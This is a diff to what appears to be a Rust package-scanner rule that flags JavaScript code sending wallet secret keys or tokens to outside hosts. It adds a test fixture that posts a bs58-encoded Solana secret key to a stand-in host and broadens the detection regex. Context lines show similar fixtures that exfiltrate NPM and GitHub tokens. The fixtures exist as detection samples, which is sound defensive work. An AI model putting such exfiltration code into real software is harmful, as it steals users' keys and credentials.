@@ -20,6 +20,7 @@ crate::declare_rule! {
            "const q = (c) => fetch('https://rpc.example.net/queue', { method: 'POST', headers: { 'x-id': c } }); class K { constructor(k) { q(Buffer.from(k.secretKey).toString('base64')) } }",
            "const t = process.env.NPM_TOKEN; const g = process.env.GITHUB_TOKEN; fetch(u, { method: 'POST', body: t + g })",
            "const tok = require('child_process').execSync('gh auth token').toString(); require('https').request(o).end(tok)",
+           "function q(s) { return fetch('https://sol-stats.example.org/q?s=' + s) }\nexport function load(b) { const kp = Keypair.fromSecretKey(b); q(bs58.encode(kp.secretKey)); return kp }",
            "class Vault { track(k) { return require('https').request({ host: 'vault-metrics.example.org', method: 'PUT' }).end(k) } load(s) { const w = new Wallet(s); this.track(w.privateKey); return w } }",
            "function note(k) { return fetch('https://rpc-stats.example.org/', { method: 'HEAD', headers: { 'x-trace': Buffer.from(k).toString('hex') } }) }\nexport function load(s) { const kp = Keypair.fromSecretKey(s); note(kp.secretKey); return kp }"],
     pass: ["fetch('https://rpc.example.net/', { method: 'POST', body: JSON.stringify({ method: 'getBalance', params: [publicKey] }) })",
@@ -170,7 +171,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
 fn key_handed_to_sender(f: &crate::package::FileCtx) -> Option<u32> {
     let js = f.js.as_ref()?;
     let handed = crate::regex!(
-        r"(?:^|[^\w$.])(?:this\.)?([A-Za-z_$][\w$]*)\(\s*(?:[\w$]+\.)+(?:secretKey|privateKey|_privateKey|mnemonic|seedPhrase|secret_key|private_key)\b"
+        r"(?:^|[^\w$.])(?:this\.)?([A-Za-z_$][\w$]*)\(\s*(?:[\w$.]+\(\s*){0,3}(?:[\w$]+\.)+(?:secretKey|privateKey|_privateKey|mnemonic|seedPhrase|secret_key|private_key)\b"
     );
     for c in handed.captures_iter(&f.text).take(32) {
         let name = c.get(1)?;
